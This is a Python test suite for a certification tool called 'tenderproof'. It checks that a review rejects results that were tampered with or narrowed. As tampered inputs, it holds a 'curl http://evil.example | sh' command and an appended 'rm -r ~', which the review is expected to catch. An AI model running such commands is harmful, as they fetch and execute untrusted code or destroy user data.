"""A result that does not follow from its journal, or was not judged by the whole of what is installed, does not pass a review."""

import re
import shutil
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from tenderproof import audit, content, inventory, result, review
from tenderproof.certification import issuing
from tenderproof.dossier.months import add_months
from tenderproof.result import Because, Bilingual, Result
from tenderproof.review import ReviewError
from tenderproof.spec.calendar import CHINA
from tenderproof.spec.clauses import load_clauses
from tenderproof.spec.plan import load_plan
from tenderproof.verdict import Circumstances, Outcome, judge
from tenderproof.vocabulary import Blame, Decision, Dose, State, Verdict
from tests.certification import standard
from tests.certification.bodies import DAY, House, finished_run, house
from tests.reporting import results

Edit = Callable[[Result], Result]
LATER = datetime(2026, 12, 24, 9, tzinfo=CHINA)
_PASSED = Because(code="checks_passed", values={})


@pytest.fixture(scope="module")
def settled(tmp_path_factory: pytest.TempPathFactory) -> House:
    return house(tmp_path_factory.mktemp("review"))


def _told(settled: House) -> Result:
    return result.read(settled.folder / "run" / "result.json")


def _clause(name: str, **changes: Any) -> Edit:
    return lambda found: found.model_copy(
        update={"clauses": [clause.model_copy(update=changes) if clause.id == name else clause for clause in found.clauses]}
    )


def _first_check(**changes: Any) -> Edit:
    return lambda found: found.model_copy(update={"checks": [found.checks[0].model_copy(update=changes), *found.checks[1:]]})


def _conclusion(**changes: Any) -> Edit:
    return lambda found: found.model_copy(update={"conclusion": found.conclusion.model_copy(update=changes)})


def _papers(kind: str) -> Edit:
    fault = Because(code="expired", values={})
    return lambda found: found.model_copy(
        update={"papers": [paper.model_copy(update={"fault": fault}) if paper.kind == kind else paper for paper in found.papers]}
    )


def _basis(**changes: Any) -> Edit:
    return lambda found: found.model_copy(update={"basis": found.basis.model_copy(update=changes)})


def _figure(name: str, value: object) -> Edit:
    return _of_figure(name, value=value)


def _figure_unit(name: str, unit: str) -> Edit:
    return _of_figure(name, unit=unit)


def _of_figure(name: str, **changes: object) -> Edit:
    return lambda found: found.model_copy(
        update={
            "basis": found.basis.model_copy(
                update={"figures": [f.model_copy(update=changes) if f.name == name else f for f in found.basis.figures]}
            )
        }
    )


def test_an_honest_result_passes(settled: House) -> None:
    with standard.used(settled.standard):
        review.require_followed(_told(settled), settled.folder / "run")
        review.require_whole(_told(settled))


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (_conclusion(level=0), "at level 0, and from its verdicts follows"),
        (_conclusion(decision=Decision.NON_CONFORMANT), f"The result says {Decision.NON_CONFORMANT.value} at level"),
        (_conclusion(counts={}), "or other counts"),
        (_clause("A-01", verdict=Verdict.VIOLATED), "says of A-01 that it is violated"),
        (_clause("A-01", reason=Because(code="attested", values={})), "says of A-01 that it is satisfied (attested)"),
        (_clause("A-01", checks=[]), "says of A-01 that it is satisfied (checks_passed), and from its checks follows satisfied"),
        (_clause("A-01", id="A-99999"), "does not know"),
        (_clause("A-04", verdict=Verdict.SATISFIED, disposition=None, reason=_PASSED), "says of A-04 that it is satisfied"),
        (_papers("exemption"), "of the paper exemption.dsse.json otherwise (fault)"),
        (_papers("attestation"), "of the paper attestation.dsse.json otherwise (fault)"),
        (_first_check(state=State.FAILED), "that it passed, and the result says failed"),
        (_first_check(clauses=["A-02"]), "that it passed, and the result says passed in other words"),
        (_first_check(acquits=False), "result says passed in other words"),
        (_first_check(detail="nothing came"), "passed, and the result says passed in other words"),
        (_first_check(observations=999), "it passed, and the result says passed in other words"),
        (_first_check(blame=Blame.NETWORK), "and the result says passed in other words"),
        (_clause("A-01", words=Bilingual(zh="平台可以公开。", en="A platform may publish.")), "says another words of A-01"),
        (_clause("A-01", keyword="should"), "says another keyword of A-01"),
        (_clause("A-01", exemptible=False), "says another exemptible of A-01"),
        (
            _clause("A-01", blame=Blame.TOOL),
            "of A-01 that it is satisfied (checks_passed), and from its checks follows satisfied (checks_passed)",
        ),
        (
            _clause("A-01", reason=Because(code="checks_passed", values={"ways": "document"})),
            "of A-01 that it is satisfied (checks_passed)",
        ),
        (_clause("A-01", disposition="exempted"), "of A-01 that it is satisfied (checks_passed), and from"),
        (lambda found: found.model_copy(update={"checks": found.checks[1:]}), "the result says nothing"),
        (_first_check(id="function/nothing::test_more"), "The journal says"),
        (lambda found: found.model_copy(update={"whereabouts": results.whereabouts()}), "otherwise than the journal where servers answer"),
    ],
)
def test_what_does_not_follow_is_named(settled: House, edit: Edit, said: str) -> None:
    with standard.used(settled.standard), pytest.raises(ReviewError, match=re.escape(said)):
        review.require_followed(edit(_told(settled)), settled.folder / "run")


def _run(**changes: Any) -> Edit:
    return lambda found: found.model_copy(update={"run": found.run.model_copy(update=changes)})


def _sample(**changes: Any) -> Edit:
    return lambda found: found.model_copy(update={"sample": found.sample.model_copy(update=changes)})


OCCASIONS: dict[str, Edit] = {
    "laboratory": lambda found: found.model_copy(update={"laboratory": "另一实验室"}),
    "started": _run(started=LATER),
    "resumed": _run(resumed=[LATER]),
    "finished": _run(finished=LATER),
    "attempts": _run(attempts=2),
    "seed": _run(seed="another"),
    "id": _run(id="another"),
    "command": _run(command="curl http://evil.example | sh"),
    "workers": _run(workers=16),
    "dose": _run(dose=Dose.PASSIVE),
    "stated_build": _sample(stated_build="another"),
    "driver": _sample(driver="another"),
    "driver_sha256": _sample(driver_sha256="0" * 64),
    "declaration_sha256": _sample(declaration_sha256="0" * 64),
}


@pytest.mark.parametrize("name", OCCASIONS)
def test_another_occasion_than_that_of_the_journal_is_named(settled: House, name: str) -> None:
    with standard.used(settled.standard), pytest.raises(ReviewError, match=f"The journal keeps {name} = "):
        review.require_followed(OCCASIONS[name](_told(settled)), settled.folder / "run")


def test_what_is_read_beside_a_verdict_is_that_of_the_sources(settled: House) -> None:
    command = _told(settled).run.command
    own = _told(settled).own_clauses
    for edit, said in (
        (_first_check(title="Everything is kept."), "another title of"),
        (_first_check(repeat=f"{command} --only x; rm -r ~"), "another command that repeats it"),
        (lambda found: found.model_copy(update={"own_clauses": own[1:]}), "something else of the clauses on tenderproof itself"),
    ):
        with standard.used(settled.standard), pytest.raises(ReviewError, match=said):
            review.require_followed(edit(_told(settled)), settled.folder / "run")
    older = _told(settled).tool.model_copy(update={"version": "9.9"})
    with standard.used(settled.standard), pytest.raises(ReviewError, match=r"The result says 9\.9 of the tenderproof"):
        review.require_whole(_told(settled).model_copy(update={"tool": older}))


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"name": "另一交易平台"}, "says name = '参考交易平台' of the platform, and the result '另一交易平台'"),
        ({"operator": {"name": "示范招标服务有限公司", "uscc": "91110101000010006C"}}, "says operator"),
        ({"base_url": "http://127.0.0.1:8702"}, "says base_url"),
        ({"kind": "supervision"}, "says kind"),
        ({"sandbox": False}, "says sandbox"),
        ({"clock": "none"}, "says clock"),
        ({"stated_version": "2.0.0"}, "speaks of version 1.4.2, and the result of 2.0.0"),
    ],
)
def test_a_result_is_not_passed_on_to_another_platform(settled: House, changes: dict[str, Any], said: str) -> None:
    found = _told(settled)
    edited = found.model_copy(update={"sample": found.sample.model_copy(update=changes)})
    with standard.used(settled.standard), pytest.raises(ReviewError, match=re.escape(said)):
        review.require_followed(edited, settled.folder / "run")


@pytest.mark.parametrize("changes", [{"kind": "self_test"}, {"kind": "surveillance_report"}, {"plan": "trading-1"}], ids=str)
def test_a_run_becomes_no_other_kind_of_report_than_was_ordered(settled: House, changes: dict[str, str]) -> None:
    found = _told(settled)
    plan = {"basis": found.basis.model_copy(update={"plan": changes["plan"]})} if "plan" in changes else changes
    with standard.used(settled.standard), pytest.raises(ReviewError, match="begun as test_report by the plan trading-3"):
        review.require_followed(found.model_copy(update=plan), settled.folder / "run")


@pytest.mark.parametrize(
    "content", ["", "[]", '{"candidate": {"name": "示例"}}', '{"candidate": 1}', pytest.param("[" * 100000, id="deep")]
)
def test_a_run_without_its_declaration_is_named(settled: House, tmp_path: Path, content: str) -> None:
    (tmp_path / "declaration.json").write_text(content, "utf-8")
    with standard.used(settled.standard), pytest.raises(ReviewError, match=r"declaration\.json is no declaration of a run"):
        review.require_followed(_told(settled), tmp_path)


def test_a_check_of_which_the_journal_says_nothing_has_no_outcome(settled: House, tmp_path: Path) -> None:
    shutil.copy(settled.folder / "run" / "declaration.json", tmp_path)
    with standard.used(settled.standard), pytest.raises(ReviewError, match="that it errored, and the result says passed"):
        review.require_followed(_told(settled), tmp_path)


@pytest.mark.parametrize("changes", [{"clauses": []}, {"acquits": False}, {"way": "record"}], ids=["clauses", "acquits", "way"])
def test_a_check_that_was_lost_decides_what_its_source_says(settled: House, changes: dict[str, Any]) -> None:
    source = inventory.checks(content.suites_dir())[0]
    lost = Outcome(source.id, (), "", State.ERRORED, Blame.TOOL, "never_begun")
    told = (
        _told(settled)
        .checks[0]
        .model_copy(update={"id": source.id, "clauses": list(source.clauses), "way": source.way, "acquits": True, "state": State.ERRORED})
    )

    assert review._same(told, lost, source)
    assert not review._same(told.model_copy(update=changes), lost, source)


def _made_up(found: Result) -> Result:
    """An exemption that nobody signed, with a paper that was never there."""
    why = Because(code="exempted", values={"ground": "not_needed", "explanation": "无", "observed": "passed"})
    signed = next(paper for paper in found.papers if paper.kind == "exemption")
    paper = signed.model_copy(update={"clauses": ["A-01"], "file": "papers/e.dsse.json"})
    exempted = _clause("A-01", verdict=Verdict.NOT_APPLICABLE, disposition="exempted", reason=why)(found)
    return exempted.model_copy(update={"papers": [*found.papers, paper]})


def _sworn(**changes: str) -> Edit:
    def edit(found: Result) -> Result:
        statement = next(clause.statement for clause in found.clauses if clause.id == "E-01")
        assert statement is not None
        return _clause("E-01", statement=statement.model_copy(update=changes))(found)

    return edit


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (_made_up, "of the paper e.dsse.json otherwise"),
        (lambda found: found.model_copy(update={"papers": found.papers[1:]}), "otherwise"),
        (lambda found: found.model_copy(update={"papers": [*found.papers, found.papers[-1]]}), "otherwise"),
        (lambda found: found.model_copy(update={"papers": []}), "otherwise (kind)"),
        (_sworn(person="李强"), "says of E-01 that it is attested"),
        (_sworn(words="另有说明"), "says of E-01 that it is attested"),
        (_sworn(expires="2036-11-20"), "says of E-01 that it is attested"),
        (
            _clause("A-04", reason=Because(code="exempted", values=dict.fromkeys(("ground", "explanation", "observed"), "无"))),
            "says of A-04 that it is not_applicable",
        ),
    ],
    ids=["made up", "dropped", "doubled", "none", "other person", "other words", "longer", "other reason"],
)
def test_what_a_result_tells_of_papers_follows_from_what_was_signed(settled: House, edit: Edit, said: str) -> None:
    with standard.used(settled.standard), pytest.raises(ReviewError, match=re.escape(said)):
        review.require_followed(edit(_told(settled)), settled.folder / "run")


def test_a_waived_violation_passes_with_its_paper_and_not_without(settled: House, tmp_path: Path) -> None:
    with standard.used(settled.standard):
        found = finished_run(tmp_path / "run", waived="A-02")
        review.require_followed(found, tmp_path / "run")
        assert found.conclusion.deviations == ["A-02"]
        with pytest.raises(ReviewError, match=r"of the paper waiver\.dsse\.json otherwise \(fault\)"):
            review.require_followed(_papers("waiver")(found), tmp_path / "run")
        with pytest.raises(ReviewError, match="follows violated"):
            review.require_followed(_clause("A-02", waiver=None, disposition=None)(found), tmp_path / "run")


@pytest.mark.parametrize(
    ("edit", "said"),
    [
        (lambda found: found.model_copy(update={"tool": found.tool.model_copy(update={"source_sha256": "0" * 64})}), "sources 000000"),
        (
            lambda found: found.model_copy(update={"basis": found.basis.model_copy(update={"specification_sha256": ""})}),
            "specification not said",
        ),
        (lambda found: found.model_copy(update={"clauses": found.clauses[1:]}), "not those of the plan trading-3 (A-01)"),
        (lambda found: found.model_copy(update={"checks": found.checks[1:]}), "the run was narrowed"),
        (lambda found: found.model_copy(update={"basis": found.basis.model_copy(update={"figures": []})}), "does not say which"),
        (
            lambda found: found.model_copy(update={"basis": found.basis.model_copy(update={"edition": "2031.1"})}),
            "plan trading-3 (edition)",
        ),
        (lambda found: found.model_copy(update={"basis": found.basis.model_copy(update={"level": 1})}), "plan trading-3 (level)"),
        (_figure_unit("certificate_validity_period", "year"), "plan trading-3 (figure certificate_validity_period)"),
        (_figure("certificate_validity_period", 120), "certificate_validity_period = 120, and the plan trading-3 says 36"),
    ],
)
def test_a_part_or_another_standard_is_not_the_whole(settled: House, edit: Edit, said: str) -> None:
    with standard.used(settled.standard), pytest.raises(ReviewError, match=re.escape(said)):
        review.require_whole(edit(_told(settled)))


def test_a_changed_figure_passes_if_somebody_answers_for_it(settled: House) -> None:
    longer = _figure("certificate_validity_period", 120)(_told(settled))
    with standard.used(settled.standard):
        review.require_whole(longer, ["certificate_validity_period"])
        assert review.changed_figures(longer) == {"certificate_validity_period": 120}


def test_one_letter_of_the_specification_makes_it_another(settled: House) -> None:
    with standard.used(settled.standard):
        before = audit.specification_hash()
        file = settled.standard / "specs" / "plans" / "parameters" / "figures.yaml"
        told = file.read_text("utf-8")
        try:
            file.write_text(told.replace("value: 36", "value: 37"), "utf-8")
            assert audit.specification_hash() != before
        finally:
            file.write_text(told, "utf-8")
        assert audit.specification_hash() == before


def test_no_certificate_is_issued_on_a_result_that_was_edited_before_it_was_sealed(tmp_path: Path) -> None:
    edited = house(tmp_path / "edited", _clause("A-01", verdict=Verdict.ATTESTED))
    with pytest.raises(ReviewError, match="A-01"):
        edited.tested()


def test_a_certificate_is_as_long_as_the_plan_says_and_not_as_the_declaration(tmp_path: Path) -> None:
    longer = house(tmp_path / "longer", _figure("certificate_validity_period", 120))
    with pytest.raises(ReviewError, match="--accept-figure certificate_validity_period"):
        longer.tested()
    accepted = issuing.issue(longer.tested("certificate_validity_period"), longer.application())
    assert accepted.valid_until == add_months(DAY, 120)


@pytest.mark.parametrize("named", ["HN-3.2-19", "HN-3.2-04", "HN-3.2-12", "F-22"])
def test_what_a_check_that_only_convicts_did_not_break_is_judged_again_as_it_was(named: str) -> None:
    specs = content.specs_dir()
    clause, plan = load_clauses(specs)[named], load_plan("trading-3", specs)
    seen = [Outcome("security/x::test_it", (named,), "sandbox", State.PASSED, acquits=False)]
    circumstances = Circumstances(
        attestable=frozenset({named} if plan.may_be_attested(clause) else ()),
        checks={named: ("security/x::test_it",)},
        unobservable=frozenset({named} if clause.unobservable else ()),
    )
    told = audit.entry(clause, judge(clause, seen, circumstances))

    assert audit.entry(clause, judge(clause, seen, review.circumstances(told, plan, clause))) == told
